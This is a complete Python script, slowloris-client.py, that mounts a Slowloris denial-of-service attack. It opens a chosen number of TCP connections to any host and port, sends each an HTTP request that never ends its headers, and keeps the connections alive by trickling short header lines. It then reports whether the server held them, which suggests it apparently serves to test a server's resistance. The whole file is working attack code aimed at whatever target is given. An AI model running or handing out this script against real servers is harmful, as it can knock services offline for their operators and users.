"""Slowloris from a real client and kernel: many HTTP connections held open by trickling header lines.

Usage: slowloris-client.py HOST PORT CONNECTIONS SECONDS INTERVAL
Opens CONNECTIONS TCP connections to HOST:PORT and sends on each a request line and one header, never the blank
line that ends the headers; then one short header line (at most 20 bytes) on every connection each INTERVAL seconds;
closes them all SECONDS after the last one opened. Exits 1 when a connection could not be opened or the server
answered or closed one before the end: then the server did not hold it open, which the attack needs.
"""
import select
import socket
import sys
import time

host, port, connections, seconds, interval = sys.argv[1], int(sys.argv[2]), *map(float, sys.argv[3:6])


def answered(socks: list) -> list:
    """Connections the server wrote to or closed (a slowloris request never completes, so it has nothing to say)."""
    readable, _, _ = select.select(socks, [], [], 0)
    return readable


socks = []
for i in range(int(connections)):
    sock = socket.create_connection((host, port), timeout=5)
    sock.sendall(f"GET /?slow={i} HTTP/1.1\r\nHost: {host}:{port}\r\n".encode())
    socks.append(sock)

start = time.monotonic()
sent = 0
rounds = 1
while rounds * interval < seconds:
    time.sleep(max(0.0, start + rounds * interval - time.monotonic()))
    for i, sock in enumerate(socks):
        line = f"X-{rounds}: {i}\r\n".encode()
        assert len(line) <= 20
        sock.sendall(line)
        sent += 1
    rounds += 1
time.sleep(max(0.0, start + seconds - time.monotonic()))

early = answered(socks)
held = time.monotonic() - start
for sock in socks:
    sock.close()
print(f"{len(socks)} connections held {held:.1f} s, {sent} header lines trickled, {len(early)} answered or closed early")
sys.exit(1 if early else 0)
